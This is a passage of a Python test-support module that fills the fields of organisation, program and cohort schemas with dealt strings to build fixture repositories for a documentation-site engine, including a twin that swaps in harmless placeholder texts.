        deal: gives the text for a field.
        entries: how many entries a list has.
        prose: the files beside program.yml, by name.
    """

    deal: Deal
    entries: int
    prose: dict[str, str] = field(default_factory=dict)

    def document(self, name: str) -> Mapping[str, Any]:
        """A document of one of the three schemas."""
        made: Mapping[str, Any] = self._value(name, schema.read(name), name, 1)
        return made

    def _value(self, name: str, part: Mapping[str, Any], path: str, number: int) -> Any:
        part = _whole(name, part)
        here = _field(part, path)
        if here is not None:
            return self._text(here)
        if "items" in part:
            most = min(self.entries, part.get("maxItems", self.entries))
            made = [self._value(name, part["items"], f"{path}[]", n) for n in range(1, most + 1)]
            if path == "organisation.grades":  # each may stand there once, however it is written
                known = [" ".join(folded(one).split()) for one in made]
                made = [f"{one}{n}" if known[n] in known[:n] else one for n, one in enumerate(made)]
            if path == "program.playbook.privacy.take":  # the playbook's texts say the organisation's fields
                made.append("the-rest")
            return [one for one in made if one not in (None, {})]
        return self._entry(name, part, path, number)

    def _text(self, here: Field) -> str:
        if here.kind != "file":
            return self.deal(here)
        file = f"text-{len(self.prose) + 1}.md"
        self.prose[file] = self.deal(here)
        return file

    def _entry(self, name: str, part: Mapping[str, Any], path: str, number: int) -> Mapping[str, Any] | None:
        if "properties" not in part and "additionalProperties" not in part:
            return None
        wanted = dict(part.get("properties", {}))
        if {"text", "file"} <= wanted.keys():
            del wanted["text" if number % 2 else "file"]
        said = {key: self._value(name, inner, f"{path}.{key}", number) for key, inner in wanted.items()}
        inner = part.get("additionalProperties")
        if isinstance(inner, Mapping):
            said |= self._own_keys(name, part, inner, path)
        said = {key: value for key, value in said.items() if value not in (None, {}, [])}
        if re.fullmatch(r"program\.playbook\.[a-z-]+\.take\[\]", path):
            said["id"] = f"ours-{number}"
        given = _GIVEN.get(path)
        return {**said, **(given(number, self.entries) if given else {})}

    def _own_keys(
        self, name: str, part: Mapping[str, Any], inner: Mapping[str, Any], path: str
    ) -> Mapping[str, Any]:
        key = _free_key(part, path)
        if key is not None:
            free = _field(_whole(name, inner), f"{path}.*") is not None
            own = self._value(name, inner, f"{path}.*", 1) if free else inner.get("examples", ["unit"])[0]
            return {self.deal(key): own}
        words = part.get("propertyNames", {}).get("enum", ())
        nested = isinstance(inner.get("additionalProperties"), Mapping)
        if _field(_whole(name, inner), f"{path}.*") is None and not nested:
            return {}
        return {word: self._value(name, inner, f"{path}.*", 1) for word in words}


FOLDER = "programs/hostile"


def files(deal: Deal, entries: int, programs: int = 1) -> Files:
    """A repository with programs of one cohort each, in which every text is dealt."""
    made: dict[str, str] = {"mkdocs.yml": MKDOCS}
    made["programs/organisation.yml"] = written(Maker(deal, entries * programs).document("organisation"))
    for number in range(1, programs + 1):
        folder = FOLDER if number == 1 else f"{FOLDER}-{number}"
        maker = Maker(deal, entries)
        made[f"{folder}/program.yml"] = written(maker.document("program"))
        made[f"{folder}/2027-spring.yml"] = written(maker.document("cohort"))
        made |= {f"{folder}/{name}": text for name, text in maker.prose.items()}
    return made


_NOT_PLAIN = re.compile("[\x7f-\xa0\u2028\u2029\ufeff]")


def written(values: object) -> str:
    """Write a document as JSON that YAML reads alike: its line breaks and marks as escapes."""
    text = json.dumps(values, ensure_ascii=False, indent=1)
    return _NOT_PLAIN.sub(lambda sign: f"\\u{ord(sign[0]):04x}", text) + "\n"


# What no page shows on the day of the tests: another step comes first, or nobody asks for it.
UNSHOWN = frozenset({
    "program.check_ins[].acts.*",
    "program.forms[].act",
    "program.milestones[].act",
    "program.milestones[].acts.*",
    "program.playbook.evaluation.take[].summary",
    "program.playbook.launch.take[].skipped",
    "program.playbook.safety.take[].summary",
    "program.sign_up.answers.*.*",
    "program.sign_up.answers.*{}",
    "program.sign_up.columns{}",
    *(f"program.roles.{role}.title" for role in ROLES),
})  # fmt: skip


class Deck:
    """Deals every string in turn, whole, to the fields that have room for it.

    Attributes:
        dealt: what each field got.
    """

    def __init__(self, strings: Sequence[str] = STRINGS) -> None:
        self.strings = tuple(
            sorted(strings, key=lambda text: len(text) <= _SHORT)
        )  # long ones find room first
        self.waiting = {kind: list(self.strings) for kind in ("text", "rich")}
        self.turns = {"link": 0, "address": 0}
        self.dealt: list[tuple[Field, str]] = []

    def __call__(self, to: Field) -> str:
        """Give a field its text."""
        text = self._address(to) if to.kind in self.turns else self._text(to)
        if to.path in UNSHOWN:
            self.waiting["text"].insert(0, text)  # it stands in another field as well
        self.dealt.append((to, text))
        return text

    def _address(self, to: Field) -> str:
        known = LINKS if to.kind == "link" else (*MAILBOXES, *LINKS)
        self.turns[to.kind] += 1
        return known[(self.turns[to.kind] - 1) % len(known)]

    def _text(self, to: Field) -> str:
        if to.kind in ("rich", "file"):
            return "\n\n".join(self._next("rich", to.most) for _ in range(_RICH_AT_ONCE))
        return self._next("text", to.most)

    def _next(self, kind: str, most: int) -> str:
        """The next string that fits; when all that fit were dealt, they come again."""
        waiting = self.waiting[kind]
        found = next((text for text in waiting if len(text) <= most), None)
        if found is None:
            waiting.extend(text for text in self.strings if len(text) <= most)
            found = next(text for text in waiting if len(text) <= most)
        waiting.remove(found)
        return found


_RICH_AT_ONCE = 10
_SHORT = 160


class Twin:
    """Deals harmless texts in place of a deck's, of which the engine makes pages of the same shape."""

    def __init__(self, deck: Deck) -> None:
        self.deck = deck
        self.dealt: list[tuple[Field, str]] = []

    def __call__(self, to: Field) -> str:
        """Give a field a harmless text of its own."""
        text = self._harmless(to, self.deck(to))
        self.dealt.append((to, text))
        return text

    def _harmless(self, to: Field, text: str) -> str:
        number = len(self.dealt) + 1
        if to.kind in ("link", "address"):
            return f"plain{number}@plain.example" if "://" not in text else f"https://plain.example/{number}"
        # A warning about a line that looks unfinished stands on a page: the twin gets as many.
        lines = text.splitlines() if to.kind in ("rich", "file") else [text]
        left = ["TODO" if advice._PLACEHOLDER.search(line) else "plain" for line in lines]
        return "\n".join(f"{word} word{number}" for word in left)


class Product:
    """Deals, over many rounds, every string to every field that has room for it.

    Attributes:
        round: which one this is, from 0.
        slots: how often a field is dealt to in a round.
        dealt: how often it was dealt to so far.
    """

    def __init__(self, round: int, slots: Counter[str]) -> None:
        self.round, self.slots = round, slots
        self.dealt: Counter[str] = Counter()

    def __call__(self, to: Field) -> str:
        """Give a field its next text; those of the organisation's name stand there together."""
        known = choices(to)
        own = crc32(to.path.encode())  # so that not all fields hold strings of one family at a time
        text = known[(own + self.round * self.slots[to.path] + self.dealt[to.path]) % len(known)]
        self.dealt[to.path] += 1
        return text

    @staticmethod
    def counted(entries: int, programs: int) -> Counter[str]:
        """How often each field is dealt to in a repository."""
        counting = Product(0, Counter())
        files(counting, entries, programs)
        return counting.dealt


@cache
def choices(to: Field) -> Sequence[str]:
    """All that a field is to hold."""
    if to.kind in ("link", "address"):
        return tuple(
            one for one in (MAILBOXES if to.kind == "address" else ()) + LINKS if len(one) <= to.most
        )
    fitting = [text for text in STRINGS if len(text) <= to.most]
    return _packed(fitting, to.most) if to.path == "organisation.name" else tuple(fitting)


def _packed(strings: Sequence[str], most: int) -> Sequence[str]:
    """Put strings together, since a repository has one organisation: as many as there is room for."""
    packed: list[str] = []
    for text in sorted(strings, key=len, reverse=True):
        room = next((at for at, held in enumerate(packed) if len(held) + 1 + len(text) <= most), None)
        if room is None:
            packed.append(text)
        else:
            packed[room] += f" {text}"
    return tuple(packed)
